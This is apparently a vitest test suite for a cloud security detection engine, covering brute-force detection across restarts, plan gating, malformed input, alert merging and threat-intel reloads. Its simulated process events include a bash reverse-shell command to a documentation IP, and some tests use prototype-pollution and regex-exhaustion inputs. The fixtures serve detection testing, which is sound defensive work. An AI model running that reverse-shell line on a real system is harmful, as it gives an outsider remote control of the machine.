/**
 * Engine behaviour with the shipped catalog on a real SQLite store: state survives closing and reopening the engine
 * mid-stream (sequences and thresholds split across the restart still complete), plan gating (Free raises nothing,
 * sub-plans), malformed events never stop the stream, duplicates merge within the window and not after it, event
 * time (not the wall clock) drives windows, threat-intel lists reload at runtime, and configuration overrides apply.
 */
import { writeFileSync, mkdtempSync, copyFileSync, mkdirSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_CATALOG_DIR } from '../../src/catalog/index.js';
import {
  DetectionEngine,
  ThreatIntel,
  listAlerts,
  loadDetectionCatalog,
  planLookupFromPricings,
  updateAlertStatus,
  type SecurityAlertRecord,
} from '../../src/protection/index.js';
import {
  FREE_SUB,
  HOUR,
  MIN,
  SUB,
  T0,
  VAULT,
  VM,
  blob,
  catalog,
  kv,
  openEngine,
  proc,
  range,
  sql,
  sshAccepted,
  sshFailed,
  tempStore,
  type TempStore,
} from './helpers.js';

const FREE_VM = VM.replace(SUB, FREE_SUB);
const SQL_SERVER = `/subscriptions/${SUB}/resourceGroups/rg-data/providers/Microsoft.Sql/servers/contoso-sql`;

let temp: TempStore;
beforeEach(async () => {
  temp = await tempStore();
});
afterEach(async () => temp.dispose());

async function alertsIn(store = temp.store): Promise<SecurityAlertRecord[]> {
  return listAlerts(store);
}

describe('state survives a restart', () => {
  it('an SSH brute force split across a restart is still detected, and completes into a successful brute force', async () => {
    let engine = await openEngine(temp.store);
    for (const i of range(12)) engine.process(sshFailed(VM, T0 + i * 10_000, '203.0.113.5'));
    expect(await alertsIn()).toHaveLength(0);
    await engine.close(); // mid-stream: 12 of the 20 failures seen

    await temp.reopen();
    engine = await openEngine(temp.store);
    for (const i of range(12, 22)) engine.process(sshFailed(VM, T0 + i * 10_000, '203.0.113.5'));
    await engine.close();
    let alerts = await alertsIn();
    expect(alerts.map((a) => a.properties.alertType)).toEqual(['VM_SshBruteForceFailed']);

    // the ordered sequence (brute force, then a logon) also spans the next restart
    await temp.reopen();
    engine = await openEngine(temp.store);
    engine.process(sshAccepted(VM, T0 + 10 * MIN, '203.0.113.5'));
    await engine.close();
    alerts = await alertsIn();
    expect(alerts.map((a) => a.properties.alertType)).toEqual(['VM_SshBruteForceSuccess']);
    expect(alerts[0].properties.extendedProperties['Superseded alert']).toMatch(/^VM_SshBruteForceFailed /);
  });

  it('a SQL brute force split across a restart is still detected', async () => {
    let engine = await openEngine(temp.store);
    for (const i of range(3)) engine.process(sql(SQL_SERVER, T0 + i * 1000, 'DATABASE_AUTHENTICATION_FAILED', { ip: '203.0.113.77', principal: 'sa' }));
    await engine.close();
    await temp.reopen();
    engine = await openEngine(temp.store);
    for (const i of range(3, 5)) engine.process(sql(SQL_SERVER, T0 + i * 1000, 'DATABASE_AUTHENTICATION_FAILED', { ip: '203.0.113.77', principal: 'sa' }));
    engine.process(sql(SQL_SERVER, T0 + 9000, 'DATABASE_AUTHENTICATION_SUCCEEDED', { ip: '203.0.113.77', principal: 'sa' }));
    await engine.close();
    const alerts = await alertsIn();
    expect(alerts.map((a) => [a.properties.alertType, a.properties.alertDisplayName])).toEqual([['SQL.DB_BruteForce', 'Suspected successful brute force attack']]);
  });

  it('the same stream in one run and split across restarts gives the same alerts', async () => {
    const stream = [
      ...range(25).map((i) => sshFailed(VM, T0 + i * 5_000, '203.0.113.9')),
      proc(VM, T0 + 3 * MIN, 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', '/usr/bin/bash'),
      kv(VAULT, T0 + 4 * MIN, 'SecretList'),
      ...['a', 'b', 'c'].map((s, i) => kv(VAULT, T0 + 5 * MIN + i * 1000, 'SecretGet', { object: s })),
    ];
    const shape = (alerts: SecurityAlertRecord[]) => alerts.map((a) => [a.name, a.properties.alertType, a.properties.startTimeUtc, a.properties.endTimeUtc, a.count]).sort();
    const whole = await tempStore();
    const one = await openEngine(whole.store);
    for (const e of stream) one.process(e);
    await one.close();
    const expected = shape(await alertsIn(whole.store));
    await whole.dispose();

    for (let start = 0; start < stream.length; start += 7) {
      await temp.reopen();
      const engine = await openEngine(temp.store);
      for (const e of stream.slice(start, start + 7)) engine.process(e);
      await engine.close();
    }
    expect(shape(await alertsIn())).toEqual(expected);
    expect(expected.map((a) => a[1])).toEqual(expect.arrayContaining(['VM_SshBruteForceFailed', 'VM_ReverseShell', 'KV_ListGetAnomaly']));
  });

  it('checkpoints during ingest, so a process killed after a checkpoint keeps what came before it', async () => {
    // the process that dies has its own compiled catalog (its memory dies with it; it is never closed)
    const dying = await DetectionEngine.open({ catalog: loadDetectionCatalog(DEFAULT_CATALOG_DIR, { strict: true }), store: temp.store, plans: () => ({ tier: 'Standard' }), checkpointEvery: 5 });
    const engine = dying;
    // 10 events: checkpoints after the 5th and the 10th; then the process "dies"
    await engine.ingest(range(10).map((i) => sshFailed(VM, T0 + i * 1000, '203.0.113.5')));
    expect(engine.stats.checkpoints).toBeGreaterThanOrEqual(2);
    await temp.reopen(); // the dead engine's memory is gone; only the store remains
    const next = await openEngine(temp.store);
    for (const i of range(10, 20)) next.process(sshFailed(VM, T0 + i * 1000, '203.0.113.5'));
    await next.close();
    expect((await alertsIn()).map((a) => a.properties.alertType)).toEqual(['VM_SshBruteForceFailed']);
  });

  it('state of a detection whose parameters changed is discarded, not misread', async () => {
    let engine = await openEngine(temp.store);
    for (const i of range(15)) engine.process(sshFailed(VM, T0 + i * 1000, '203.0.113.5'));
    await engine.close();
    // a config that changes the correlation's threshold changes its fingerprint: it starts counting afresh
    engine = await openEngine(temp.store, { config: { overrides: { palisade_sshd_brute_force: { count: 10 } } } });
    for (const i of range(15, 24)) engine.process(sshFailed(VM, T0 + i * 1000, '203.0.113.5'));
    expect(await alertsIn()).toHaveLength(0);
    engine.process(sshFailed(VM, T0 + 25_000, '203.0.113.5'));
    await engine.close();
    expect((await alertsIn()).map((a) => a.properties.alertType)).toEqual(['VM_SshBruteForceFailed']);
  });

  it('a catalog serves one open engine at a time', async () => {
    const engine = await openEngine(temp.store);
    await expect(openEngine(temp.store)).rejects.toMatchObject({ code: 'DetectionCatalogInUse' });
    await engine.close();
    await (await openEngine(temp.store)).close();
  });
});

describe('plans', () => {
  const attack = (resource: string) => [
    ...range(25).map((i) => sshFailed(resource, T0 + i * 5_000, '203.0.113.5')),
    sshAccepted(resource, T0 + 3 * MIN, '203.0.113.5'),
    proc(resource, T0 + 4 * MIN, 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', '/usr/bin/bash'),
  ];

  it('the same attack on a Free-plan subscription raises nothing (and learns nothing)', async () => {
    const engine = await openEngine(temp.store);
    for (const e of attack(FREE_VM)) engine.process(e);
    expect(engine.stats.unwatched).toBe(27);
    expect(engine.stateSizes()['sigma:b5a1a27f-aff1-4f8d-b4c0-d00e8c76ddd9']).toBe(0);
    for (const e of attack(VM)) engine.process(e);
    await engine.close();
    const alerts = await alertsIn();
    expect(alerts.map((a) => [a.properties.alertType, a.subscriptionId])).toEqual(
      expect.arrayContaining([
        ['VM_SshBruteForceSuccess', SUB],
        ['VM_ReverseShell', SUB],
      ]),
    );
    expect(alerts.every((a) => a.subscriptionId === SUB)).toBe(true);
  });

  it('reads plans from pricing rows: Standard alerts, Free and missing rows do not; sub-plans gate detections that need them', async () => {
    const pricing = (sub: string, name: string, tier: string, subPlan?: string) => ({
      id: `/subscriptions/${sub}/providers/Microsoft.Security/pricings/${name}`,
      type: 'microsoft.security/pricings',
      name,
      properties: { pricingTier: tier, ...(subPlan ? { subPlan } : {}) },
    });
    const plans = planLookupFromPricings([pricing(SUB, 'VirtualMachines', 'Standard', 'P1'), pricing(SUB, 'StorageAccounts', 'Standard', 'PerTransaction'), pricing(FREE_SUB, 'VirtualMachines', 'Free')]);
    expect(plans(SUB.toUpperCase(), 'virtualmachines')).toEqual({ tier: 'Standard', subPlan: 'P1', extensions: undefined });
    const engine = await openEngine(temp.store, { plans });
    const storage = `/subscriptions/${SUB}/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/st1`;
    const malware = Buffer.from('c97e5b930eb5a08d7e4c7836046694d9', 'hex').toString('base64');
    for (const e of [
      ...attack(VM),
      ...attack(FREE_VM),
      blob(storage, T0, 'PutBlob', { status: 201, md5: malware, key: '/st1/up/x.bin' }),
      blob(storage, T0 + HOUR, 'GetBlob', { key: '/st1/up/x.bin' }),
      kv(VAULT, T0, 'SecretGet', { ip: '204.8.96.141' }), // KeyVaults has no pricing row: Free
    ]) {
      engine.process(e);
    }
    await engine.close();
    const types = (await alertsIn()).map((a) => a.properties.alertType).sort();
    // the hash-reputation alert needs Standard; the malware-download alert also needs the DefenderForStorageV2 sub-plan
    expect(types).toEqual(['Storage.Blob_MalwareHashReputation', 'VM_ReverseShell', 'VM_SshBruteForceSuccess']);
  });
});

describe('malformed input never stops the stream', () => {
  it('counts and skips events that are not SecurityEvents, and keeps detecting', async () => {
    const engine = await openEngine(temp.store);
    const bad: unknown[] = [
      null,
      42,
      'text',
      {},
      { source: 'nope', time: T0 },
      { source: 'processEvent', time: 'yesterday', resourceId: VM, subscriptionId: SUB, operation: 'execve', fields: {} },
      { source: 'processEvent', time: Number.NaN, resourceId: VM, subscriptionId: SUB, operation: 'execve', fields: {} },
      { source: 'processEvent', time: T0, resourceId: '', subscriptionId: SUB, operation: 'execve', fields: {} },
      { source: 'processEvent', time: T0, resourceId: VM, subscriptionId: SUB, operation: 'execve', fields: null, origin: { file: 'x.jsonl', line: 7 } },
      { source: 'processEvent', time: T0, resourceId: VM, subscriptionId: SUB, operation: 'execve', fields: [] },
    ];
    // hostile but well-typed values: huge strings, odd field types, prototype names, a non-ARM resource id
    const odd = [
      proc(VM, T0, 'x'.repeat(200_000), '/usr/bin/x'),
      { ...proc(VM, T0, 'ls'), fields: { CommandLine: { nested: true } as never, Image: 42, constructor: 'x', __proto__: { CommandLine: '/dev/tcp/' } } },
      { ...proc(VM, T0, 'bash -c bash -i >& /dev/tcp/1.2.3.4/1 0>&1', '/bin/bash'), resourceId: 'not-an-arm-id' },
      kv(VAULT, T0, 'SecretGet', { ip: 'not-an-ip' }),
      { ...kv(VAULT, T0, 'SecretGet'), callerIp: '999.1.1.1:80' },
    ];
    const changes = await engine.ingest([...bad, ...odd, proc(VM, T0 + 1000, 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', '/usr/bin/bash')]);
    await engine.close();
    expect(changes.rejected).toBe(bad.length);
    expect(changes.errors).toBe(0);
    expect(changes.problems.find((p) => p.origin?.line === 7)).toMatchObject({ code: 'DetectionInvalidEvent', message: 'fields is not an object', origin: { file: 'x.jsonl', line: 7 } });
    expect((await alertsIn()).map((a) => a.properties.alertType)).toEqual(['VM_ReverseShell']);
  });

  it('values named like prototype keys are plain data, also in restored state', async () => {
    let engine = await openEngine(temp.store);
    engine.process(kv(VAULT, T0, 'SecretList'));
    engine.process(kv(VAULT, T0 + 1000, 'SecretGet', { object: '__proto__' }));
    engine.process(kv(VAULT, T0 + 2000, 'SecretGet', { object: 'constructor' }));
    await engine.close();
    engine = await openEngine(temp.store);
    const changes = engine.process(kv(VAULT, T0 + 3000, 'SecretGet', { object: 'prototype' }));
    await engine.close();
    expect(changes.map((c) => c.alert.properties.alertType)).toEqual(['KV_ListGetAnomaly']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });

  it('a regular expression in a rule runs in linear time on adversarial input', async () => {
    const engine = await openEngine(temp.store);
    const started = process.hrtime.bigint();
    // the download-and-run rule's regex and the SQL injection regex against long near-miss inputs
    engine.process(proc(VM, T0, `curl ${'| '.repeat(50_000)}x`, '/usr/bin/curl'));
    engine.process(sql(SQL_SERVER, T0, 'BATCH_COMPLETED', { statement: `'${" or '".repeat(30_000)}` }));
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    await engine.close();
    expect(ms).toBeLessThan(2_000);
  });
});

describe('merging', () => {
  const shell = (t: number) => proc(VM, t, 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1', '/usr/bin/bash');

  it('duplicates within the merge window become one alert with a count and a later end', async () => {
    const engine = await openEngine(temp.store);
    engine.process(shell(T0));
    engine.process(shell(T0 + HOUR));
    engine.process(shell(T0 + 3 * HOUR));
    await engine.close();
    const alerts = await alertsIn();
    expect(alerts).toHaveLength(1);
    expect(alerts[0].count).toBe(3);
    expect(alerts[0].properties.startTimeUtc).toBe(new Date(T0).toISOString());
    expect(alerts[0].properties.endTimeUtc).toBe(new Date(T0 + 3 * HOUR).toISOString());
    expect(alerts[0].properties.extendedProperties.Occurrences).toBe('3');
  });

  it('after the window (measured from the alert end, in event time) a new alert starts', async () => {
    const engine = await openEngine(temp.store);
    engine.process(shell(T0));
    engine.process(shell(T0 + 5 * HOUR)); // within 6h of the end: merges, end moves
    engine.process(shell(T0 + 10 * HOUR)); // within 6h of the new end: merges
    engine.process(shell(T0 + 17 * HOUR)); // 7h after the end: a new alert
    await engine.close();
    const alerts = await alertsIn();
    expect(alerts.map((a) => a.count).sort()).toEqual([1, 3]);
  });

  it('different keys do not merge; a dismissed alert is not merged into (the next occurrence opens a new alert)', async () => {
    let engine = await openEngine(temp.store);
    for (const ip of ['204.8.96.141', '204.8.96.141', '204.137.14.106']) engine.process(kv(VAULT, T0, 'SecretGet', { ip }));
    await engine.close();
    let alerts = await alertsIn();
    expect(alerts.map((a) => [a.properties.extendedProperties['Client IP address'], a.count]).sort()).toEqual([
      ['204.137.14.106', 1],
      ['204.8.96.141', 2],
    ]);
    const first = alerts.find((a) => a.count === 2)!;
    await updateAlertStatus(temp.store, first.name, 'Dismissed');
    engine = await openEngine(temp.store);
    engine.process(kv(VAULT, T0 + MIN, 'SecretGet', { ip: '204.8.96.141' }));
    await engine.close();
    alerts = await alertsIn();
    expect(alerts).toHaveLength(3);
    expect(alerts.filter((a) => a.properties.status === 'Dismissed').map((a) => a.name)).toEqual([first.name]);
  });
});

describe('threat intelligence and configuration', () => {
  it('a list reloaded at runtime is used by the compiled rules without recompiling', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'palisade-ti-'));
    const src = join(DEFAULT_CATALOG_DIR, 'protection', 'threat-intel');
    for (const f of readdirSync(src)) copyFileSync(join(src, f), join(dir, f));
    const ti = ThreatIntel.fromManifest(join(dir, 'lists.json'));
    const own = loadDetectionCatalog(DEFAULT_CATALOG_DIR, { threatIntel: ti, strict: true });
    const engine = await DetectionEngine.open({ catalog: own, store: temp.store, plans: () => ({ tier: 'Standard' }) });
    const fresh = '45.148.10.77';
    expect(engine.process(kv(VAULT, T0, 'SecretGet', { ip: fresh }))).toEqual([]);
    writeFileSync(join(dir, 'suspicious-ips.txt'), `# updated feed\n${fresh}\n`);
    expect(ti.refreshIfChanged()).toEqual(['suspicious-ips']);
    const changes = engine.process(kv(VAULT, T0 + MIN, 'SecretGet', { ip: fresh }));
    expect(changes.map((c) => c.alert.properties.alertType)).toEqual(['KV_SuspiciousIPAccess']);
    ti.setList('suspicious-ips', 'ip', []); // a feed can also be replaced from code
    expect(engine.process(kv(VAULT, T0 + 2 * MIN, 'SecretGet', { ip: '45.148.10.78' }))).toEqual([]);
    await engine.close();
  });

  it('learning periods and thresholds are configuration: a shorter learning period alerts sooner', async () => {
    const background = range(3).map((d) => kv(VAULT, T0 + d * HOUR, 'SecretGet'));
    const attack = kv(VAULT, T0 + 4 * HOUR, 'SecretGet', { upn: 'eve@contoso.example' });
    let engine = await openEngine(temp.store);
    for (const e of [...background, attack]) engine.process(e);
    await engine.close();
    expect(await alertsIn()).toHaveLength(0); // still learning (7 days by default)

    const other = await tempStore();
    engine = await openEngine(other.store, { config: { learningPeriod: '2h' } });
    for (const e of [...background, attack]) engine.process(e);
    await engine.close();
    expect((await alertsIn(other.store)).map((a) => a.properties.alertType)).toEqual(['KV_UserAnomaly']);
    await other.dispose();
  });

  it('a disabled detection does not run; unknown config names are coded errors', () => {
    const c = catalog({ disabled: ['VM_ReverseShell'] });
    expect(c.definitions.some((d) => d.alertType === 'VM_ReverseShell')).toBe(false);
    expect(c.definitions.some((d) => d.alertType === 'K8S.NODE_ReverseShell')).toBe(true);
    expect(() => catalog({ overrides: { NoSuchDetection: { count: 3 } } })).toThrow(expect.objectContaining({ code: 'DetectionConfigUnknown' }));
    expect(() => catalog({ overrides: { VM_SshBruteForceFailed: { bogus: 3 } as never } })).toThrow(expect.objectContaining({ code: 'DetectionConfigInvalid' }));
  });
});
